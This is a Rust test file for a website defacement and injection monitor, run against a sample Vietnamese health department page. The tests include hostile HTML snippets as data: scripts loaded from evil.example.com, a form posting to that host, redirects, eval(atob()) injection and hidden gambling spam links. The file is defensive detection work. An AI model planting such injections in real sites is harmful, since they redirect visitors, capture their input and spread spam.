//! What is said of the changes that sites live through, and of those that intruders make.

use std::collections::BTreeSet;

use pages::{Limits, PageModel, Source, parse};
use visit::Visitor;
use watch::{
    Approval, Approver, Look, PageMemory, Reason, SiteFacts, SiteMemory, Verdict, Views, judge,
    judge_views,
};

const PAGE: &str = "<!doctype html><html lang=vi><title>Sở Y tế tỉnh A</title><meta charset=utf-8>
<style>.an{display:none}</style><body><header><img src=/logo.png><h1>Sở Y tế tỉnh A</h1></header>
<nav><a href=/>Trang chủ</a><a href=/tin>Tin tức</a></nav>
<main><h2>Tin mới</h2><ul class=tin><li><a href=/1>Hội nghị triển khai nhiệm vụ năm 2026</a><li><a href=/2>Lịch tiêm chủng tháng 8</a>
<li><a href=/3>Thông báo tuyển dụng viên chức</a></ul><p class=gioi-thieu>Sở là cơ quan chuyên môn thuộc Uỷ ban nhân dân tỉnh.</p></main>
<div class=dem>Lượt truy cập: 12.345</div><div class=an>Trình đơn</div>
<script src=/js/site.js></script><script>var t='abc';bat(t,1);</script><footer>Địa chỉ: 1 Lê Lợi</footer>";

fn read(markup: &str) -> PageModel {
    let source = Source {
        url: "https://syt.example.gov.vn/",
        content_type: None,
        body: markup.as_bytes(),
        style_sheets: &[],
    };
    parse(&source, &Limits::default())
}

fn site() -> SiteFacts {
    SiteFacts {
        addresses: [std::net::Ipv4Addr::new(203, 0, 113, 5).into()].into(),
        keys: BTreeSet::from(["key one".to_owned()]),
        issuers: BTreeSet::from(["Honest CA".to_owned()]),
        ends_at: BTreeSet::from(["example.gov.vn".to_owned()]),
        problem: None,
    }
}

fn memory() -> PageMemory {
    PageMemory::begin(Approval {
        page: read(PAGE),
        approver: Approver {
            by: "Nguyễn Văn A".to_owned(),
            ..Approver::default()
        },
    })
}

fn verdict_of(markup: &str) -> (Verdict, Vec<Reason>) {
    let page = read(markup);
    let site = site();
    let look = Look {
        page: &page,
        status: 200,
        site: &site,
    };
    let site_memory = SiteMemory {
        facts: look.site.clone(),
        ..SiteMemory::default()
    };
    let judgement = judge(&site_memory, &memory(), &look);
    (judgement.verdict, judgement.reasons)
}

fn changed(from: &str, to: &str) -> String {
    assert!(PAGE.contains(from), "{from}");
    PAGE.replace(from, to)
}

#[test]
fn what_sites_live_through_is_no_alarm() {
    let cases = [
        (PAGE.to_owned(), Verdict::Unchanged),
        (changed("12.345", "12.346"), Verdict::Ordinary),
        (
            changed(
                "<ul class=tin>",
                "<ul class=tin><li><a href=/4>Kết quả xét nghiệm</a>",
            ),
            Verdict::Ordinary,
        ),
        (
            changed("<li><a href=/3>Thông báo tuyển dụng viên chức</a>", ""),
            Verdict::Ordinary,
        ),
        (
            changed("var t='abc';bat(t,1);", "var t='xyz';bat(t,99);"),
            Verdict::Unchanged,
        ),
        (
            changed("Sở là cơ quan", "Đây là cơ quan"),
            Verdict::Unexplained,
        ),
        (
            changed("src=/js/site.js", "src=//cdn.example.gov.vn/site.js"),
            Verdict::Ordinary,
        ),
    ];
    for (markup, verdict) in cases {
        let (found, reasons) = verdict_of(&markup);
        assert_eq!(found, verdict, "{reasons:?}");
    }
}

#[test]
fn what_intruders_do_is_an_alarm_and_says_what() {
    let list = "<ul class=tin>";
    let cases = [
        ("<html><title>Hacked by X</title><body bgcolor=black><h1>Hacked by X</h1></body>".to_owned(), Verdict::Defacement),
        ("<html><title>.</title><body><center><img src=//i.example.net/flag.gif></center></body>".to_owned(), Verdict::Defacement),
        (changed("<title>Sở Y tế tỉnh A", "<title>HACKED BY X"), Verdict::Defacement),
        (changed("Lịch tiêm chủng tháng 8", "Nhà cái uy tín, tài xỉu online"), Verdict::Injection),
        (changed(list, "<div style='position:absolute;left:-9999px'><a href=https://bet.example.com>x</a></div><ul class=tin>"), Verdict::Injection),
        (changed("Trình đơn", "Trình đơn <a href=https://bet.example.com>x</a>"), Verdict::Injection),
        (changed(list, "<script src=https://evil.example.com/x.js></script><ul class=tin>"), Verdict::Injection),
        (changed(list, "<iframe src=https://evil.example.com/></iframe><ul class=tin>"), Verdict::Injection),
        (changed(list, "<form action=https://evil.example.com/><input name=p></form><ul class=tin>"), Verdict::Injection),
        (changed("<meta charset=utf-8>", "<meta charset=utf-8><meta http-equiv=refresh content='0;url=https://evil.example.com'>"), Verdict::Takeover),
        (changed("bat(t,1);", "bat(t,1);location.href='https://evil.example.com'"), Verdict::Takeover),
        (changed("bat(t,1);", "bat(t,1);eval(atob('x'))"), Verdict::Injection),
        (changed("<body>", "<body onload=\"document.write('x')\">"), Verdict::Injection),
    ];
    for (markup, verdict) in cases {
        let (found, reasons) = verdict_of(&markup);
        assert_eq!(found, verdict, "{reasons:?}");
        assert!(!reasons.is_empty());
    }
}

#[test]
fn a_site_is_who_has_its_key_and_somebody_else_who_has_another_elsewhere() {
    let other = |change: &dyn Fn(&mut SiteFacts)| {
        let mut facts = site();
        change(&mut facts);
        site().judge(&facts).0
    };
    let elsewhere =
        |facts: &mut SiteFacts| facts.addresses = ["198.51.100.9".parse().unwrap()].into();
    let rekeyed = |facts: &mut SiteFacts| facts.keys = BTreeSet::from(["key two".to_owned()]);
    assert_eq!(other(&elsewhere), Verdict::Unchanged, "moved with its key");
    assert_eq!(
        other(&rekeyed),
        Verdict::Unchanged,
        "renewed by the same authority"
    );
    assert_eq!(
        other(&|facts| {
            elsewhere(facts);
            rekeyed(facts);
        }),
        Verdict::Takeover
    );
    assert_eq!(
        other(&|facts| {
            rekeyed(facts);
            facts.issuers = BTreeSet::from(["Other CA".to_owned()]);
            facts.problem = Some("UnknownIssuer".to_owned());
        }),
        Verdict::Takeover
    );
    assert_eq!(
        other(&|facts| facts.ends_at = BTreeSet::from(["bet.example.com".to_owned()])),
        Verdict::Takeover
    );
}

#[test]
fn a_page_for_crawlers_only_is_cloaking_and_one_that_varies_for_everybody_is_not() {
    let ours = read(PAGE);
    let theirs = read(&changed(
        "Lịch tiêm chủng tháng 8",
        "Nhà cái <a href=https://bet.example.com>số 1</a>",
    ));
    let views = |visitor, first, second| Views {
        visitor,
        first,
        second,
    };
    let memory = memory();
    let us = views(Visitor::Watch, &ours, &ours);
    let judgement = judge_views(&memory, &us, &views(Visitor::Crawler, &theirs, &theirs));
    assert_eq!(judgement.verdict, Verdict::Cloaking);
    let advertisement = read(&changed(
        "<nav>",
        "<aside><a href=https://ads.example.com>x</a></aside><nav>",
    ));
    let varies = judge_views(&memory, &us, &views(Visitor::Phone, &advertisement, &ours));
    assert_eq!(varies.verdict, Verdict::Unchanged, "{:?}", varies.reasons);
}

#[test]
fn covers_languages_pictures_and_disguised_words_are_told() {
    let list = "<ul class=tin>";
    let cover = |inner: &str| {
        changed(
            "<body>",
            &format!("<body><div style='position:fixed;inset:0;z-index:9999'>{inner}</div>"),
        )
    };
    let cases = [
        (cover("<img src=/upload/a.jpg>"), Verdict::Defacement),
        (cover("<h1>H.a.c.k.e.d</h1>"), Verdict::Defacement),
        (
            cover("<p>Situs ini dengan mudah kami ambil dan itu bukan salah anda"),
            Verdict::Defacement,
        ),
        (
            changed(
                "<style>",
                "<style>body{background:url(https://i.example.com/a.png)}",
            ),
            Verdict::Defacement,
        ),
        (
            changed(
                "<h1>Sở Y tế tỉnh A</h1>",
                "<h1>Здесь был кто-то другой</h1>",
            ),
            Verdict::Defacement,
        ),
        (
            changed("Lịch tiêm chủng tháng 8", "H4ck3d by nobody"),
            Verdict::Defacement,
        ),
        (
            changed("Lịch tiêm chủng tháng 8", "n.h.à c.á.i u.y t.í.n"),
            Verdict::Injection,
        ),
        (
            changed(
                list,
                "<a href=https://abc88.example.casino/>x</a><ul class=tin>",
            ),
            Verdict::Injection,
        ),
        (
            changed(
                "Trình đơn",
                "Trình đơn <a href=/upload/soi-keo-nha-cai-uy-tin.html>x</a>",
            ),
            Verdict::Injection,
        ),
        (
            changed(
                list,
                "<div hidden><a href=/upload/x.html>x</a></div><ul class=tin>",
            ),
            Verdict::Unexplained,
        ),
        (
            changed("bat(t,1);", "bat(t,1);var s='nhà c'+'ái uy tín';"),
            Verdict::Injection,
        ),
        (
            changed("<img src=/logo.png>", "<img src=/upload/x.png>"),
            Verdict::Unexplained,
        ),
        (
            changed("<nav>", "<img src=https://i.example.com/x.png><nav>"),
            Verdict::Unexplained,
        ),
        (
            changed(
                list,
                "<script src=/upload/2026/x.js></script><ul class=tin>",
            ),
            Verdict::Injection,
        ),
    ];
    for (markup, verdict) in cases {
        let (found, reasons) = verdict_of(&markup);
        assert_eq!(found, verdict, "{markup}: {reasons:?}");
    }
}

#[test]
fn honest_news_of_bets_bars_for_cookies_and_english_names_are_no_alarm() {
    let list = "<ul class=tin>";
    let cases = [
        changed(
            list,
            "<ul class=tin><li>Công an tỉnh triệt phá đường dây cá độ bóng đá, đánh bạc qua mạng",
        ),
        changed(
            list,
            "<ul class=tin><li>International Health Conference 2026 for the people of the province",
        ),
        changed(
            list,
            "<ul class=tin><li>Xổ số kiến thiết tỉnh A nộp ngân sách",
        ),
        changed(
            "<nav>",
            "<div style='position:fixed;bottom:0;left:0;right:0;height:60px'></div><nav>",
        ),
        changed("src=/logo.png", "src='/logo.png?v=2'"),
    ];
    for markup in cases {
        let (found, reasons) = verdict_of(&markup);
        assert!(
            found <= Verdict::Ordinary,
            "{markup}: {found:?} {reasons:?}"
        );
    }
}
